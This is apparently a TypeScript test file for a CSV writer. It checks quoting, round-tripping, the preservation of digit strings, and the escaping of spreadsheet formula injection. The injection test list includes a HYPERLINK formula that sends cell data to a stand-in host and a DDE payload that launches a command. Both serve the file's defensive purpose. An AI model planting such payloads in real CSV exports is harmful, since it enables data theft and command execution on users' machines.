import { parseCsv } from "@handsel/services/parseCsv";
import { expect, test } from "vitest";
import { csvLine } from "./csv.ts";

test("a line ends with CRLF, and null is an empty cell", () => {
  expect(csvLine(["a", null, 7, ""])).toBe("a,,7,\r\n");
});

test.each(['"', 'a"b', "a,b", "a;b", "a\nb", "a\r\nb", "a\tb", ' "quoted" ', "Grüße 你好"])(
  "%j is read back as it is",
  (text) => {
    expect(parseCsv(csvLine(["x", text, "y"]))).toEqual([["x", text, "y"]]);
  },
);

test.each([
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "＝1",
  "＋1",
  "－1",
  "＠x",
  '=HYPERLINK("https://evil.example/"&A1,"Click")',
  "=cmd|' /C calc'!A0",
])("%j is escaped, so that it is not a formula", (text) => {
  const [[cell] = []] = parseCsv(csvLine([text]));
  expect(cell).toBe(`'${text}`);
});

test("text with the signs of a formula elsewhere is not changed", () => {
  expect(csvLine(["a=b", "1-2", "me@shop.example", "0x-"])).toBe("a=b,1-2,me@shop.example,0x-\r\n");
});

test.each(["0012345", "1234567890123456", "1.234567890123456", "1,234,567,890,123,456", "12E5"])(
  "%j keeps its digits as text",
  (text) => {
    expect(csvLine([text])).toMatch(/^"?'/);
    expect(parseCsv(csvLine([text]))).toEqual([[`'${text}`]]);
  },
);

test("digits that a number keeps stay as they are, and so does what is meant as a number", () => {
  const long = "1234567890123456.789012";
  const cells = ["0", "10023", "123456789012345", "0x12", "12E", { number: long }, 31337];
  expect(csvLine(cells)).toBe(`0,10023,123456789012345,0x12,12E,${long},31337\r\n`);
});
